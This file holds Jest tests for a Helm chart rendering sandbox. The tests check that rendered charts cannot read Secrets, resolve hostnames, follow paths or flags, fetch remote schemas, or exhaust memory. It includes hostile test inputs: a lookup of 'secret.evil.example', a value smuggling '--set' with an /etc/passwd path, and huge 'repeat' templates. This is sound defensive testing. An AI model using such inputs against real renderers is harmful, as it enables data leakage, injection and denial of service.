import { randomUUID } from 'crypto';
import { createSocket } from 'dgram';
import { mkdtemp, readFile, rm, writeFile } from 'fs/promises';
import { tmpdir } from 'os';
import { join } from 'path';
import { inspectArchive } from '../../charts/inspectArchive';
import { readChart } from '../../charts/readChart';
import { chartArchive } from '../../charts/__testUtils__/archives';
import { createHelmHomes, createHelmRunner, renderChart } from '../../helm';

jest.setTimeout(60_000);
const stateFile = process.env.HELM_TEST_STATE;
const withHelm = stateFile ? describe : describe.skip;
const wanted = { name: 'web', version: '1.0.0' };

withHelm.each([4, 3] as const)('rendering with the real Helm %s', major => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'helm-render-'));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));

  async function render(
    files: Record<string, string>,
    values: Record<string, unknown> = {},
    limits?: { milliseconds: number; bytes: number },
  ) {
    const { tools } = JSON.parse(await readFile(String(stateFile), 'utf8'));
    const archive = chartArchive('web', '1.0.0', files);
    const path = join(folder, `${randomUUID()}.tgz`);
    await writeFile(path, archive);
    const chart = readChart(await inspectArchive(archive), wanted);
    const runner = createHelmRunner({
      binaries: { 3: tools.helm3, 4: tools.helm },
      homes: createHelmHomes({ root: join(folder, 'h'), newId: randomUUID }),
      environment: {
        PATH: process.env.PATH,
        KUBECONFIG: '/etc/hostname',
        KUBERNETES_SERVICE_HOST: '127.0.0.1',
        HELM_KUBETOKEN: 'stolen',
      },
      renderLimits: limits,
    });
    return renderChart(runner, {
      major,
      chart: { path, hasRemoteSchema: chart.hasRemoteSchema },
      namespace: 'shop-dev',
      name: 'storefront',
      isUpgrade: true,
      values,
      capabilities: {
        kubeVersion: 'v1.36.3',
        apiVersions: ['v1', 'apps/v1', 'example.com/v1/Thing'],
      },
    });
  }
  const config = (message: string) => ({
    'templates/config.yaml': `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  message: ${message}\n`,
  });

  it('gives the chart the target’s versions and the release', async () => {
    const { objects } = await render(
      config(
        '{{ printf "%s %s %v %v" .Capabilities.KubeVersion.Version .Release.Name .Release.IsUpgrade (.Capabilities.APIVersions.Has "example.com/v1/Thing") | quote }}',
      ),
    );
    expect(objects[0].object.data).toEqual({
      message: 'v1.36.3 storefront true true',
    });
  });

  it('9. a chart that looks Secrets up sees none', async () => {
    const { objects } = await render(
      config(
        '{{ lookup "v1" "Secret" "" "" | toJson | quote }}{{/* no cluster */}}',
      ),
    );
    expect(objects[0].object.data).toEqual({ message: '{}' });
  });

  it('10. a chart that resolves a name gets nothing, and nobody is asked', async () => {
    const dns = createSocket('udp4');
    const asked = jest.fn();
    dns.on('message', asked);
    await new Promise<void>(resolve =>
      dns.bind(0, '127.0.0.1', () => resolve()),
    );
    const { objects } = await render(
      config('{{ getHostByName "secret.evil.example" | quote }}'),
    );
    expect(objects[0].object.data).toEqual({ message: '' });
    expect(asked).not.toHaveBeenCalled();
    dns.close();
  });

  it('3. values are values: no path, address or flag is followed', async () => {
    const { objects } = await render(config('{{ .Values.m | quote }}'), {
      m: 'file:///etc/passwd --set a=b',
    });
    expect(objects[0].object.data).toEqual({
      message: 'file:///etc/passwd --set a=b',
    });
  });

  it('keeps what YAML would change: strings, nulls, numbers', async () => {
    const { objects } = await render(config('{{ toJson .Values.m | quote }}'), {
      m: { a: 'yes', b: '0644', c: '2026-11-20', d: 1.5, e: '', f: '<<' },
    });
    const { message } = Object(objects[0].object.data);
    expect(JSON.parse(message)).toEqual({
      a: 'yes',
      b: '0644',
      c: '2026-11-20',
      d: 1.5,
      e: '',
      f: '<<',
    });
  });

  it('tells a broken schema and a broken template in words', async () => {
    const schema = {
      'values.schema.json':
        '{"type":"object","properties":{"replicas":{"type":"integer"}}}',
    };
    await expect(render(schema, { replicas: 'three' })).rejects.toMatchObject({
      code: 'VALUES_SCHEMA',
      message: expect.stringContaining('replicas'),
    });
    await expect(
      render(config('{{ required "image.tag is required" .Values.tag }}')),
    ).rejects.toMatchObject({
      code: 'RENDER_FAILED',
      message: expect.stringContaining('image.tag is required'),
    });
  });

  it('does not fetch what a schema refers to', async () => {
    const { objects } = await render({
      'values.schema.json': '{"$ref": "http://127.0.0.1:1/schema.json"}',
    });
    expect(objects).toHaveLength(1);
  });

  it('11. ends a chart that eats memory, and one that prints without end', async () => {
    await expect(
      render(config('{{ repeat 6000000000 "x" | len }}')),
    ).rejects.toMatchObject({ code: 'RENDER_TOO_LARGE' });
    await expect(
      render(
        config('{{ repeat 5000000 "x" }}'),
        {},
        {
          milliseconds: 10_000,
          bytes: 1_000_000,
        },
      ),
    ).rejects.toMatchObject({ code: 'RENDER_TOO_LARGE' });
  });
});
